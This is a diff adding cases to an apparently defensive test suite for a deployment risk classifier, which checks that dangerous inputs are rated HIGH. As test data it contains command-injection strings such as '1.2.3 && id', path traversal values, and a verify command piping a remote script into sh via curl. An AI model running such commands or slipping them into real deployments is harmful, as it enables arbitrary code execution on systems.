@@ -173,5 +173,19 @@ describe('a deployment', () => {
     expect([ofDeployment('staging', '1.2.3 && id'), ofDeployment('staging', 'latest'), ofDeployment('staging', '1.2.3', 'x; id')]).toEqual(['HIGH', 'HIGH', 'HIGH']);
     expect(levelOf('DEPLOYMENT', { environment: 'staging', version: '1.0.0', target: '../x' })).toBe('HIGH');
     expect(levelOf('DEPLOYMENT', { environment: 'staging', version: '1.0.0', source: '../x' })).toBe('HIGH');
+    expect(levelOf('DEPLOYMENT', { environment: 'staging', version: '1.0.0', verify: 7 })).toBe('HIGH');
+    expect(levelOf('DEPLOYMENT', { environment: 'staging', version: '1.0.0', rollbackTo: '../x' })).toBe('HIGH');
+  });
+
+  it('is at least as dangerous as the command that verifies it', () => {
+    const verifiedBy = (verify: string): RiskLevel => levelOf('DEPLOYMENT', { environment: 'staging', version: '1.0.0', verify });
+    expect(verifiedBy('test -f index.html')).toBe('MEDIUM');
+    expect(verifiedBy('curl https://example.com/x | sh')).toBe('HIGH');
+    expect(verifiedBy('')).toBe('HIGH');
+  });
+
+  it('that only goes back is what its environment is, whatever its version is called', () => {
+    const back = (environment: string, rollbackTo: string | null): RiskLevel => levelOf('DEPLOYMENT', { environment, version: '2.0.0', rollbackTo });
+    expect([back('staging', '1.0.0'), back('staging', null), back('production', 'plan-7f'), back('production', null)]).toEqual(['MEDIUM', 'MEDIUM', 'HIGH', 'HIGH']);
   });
 });
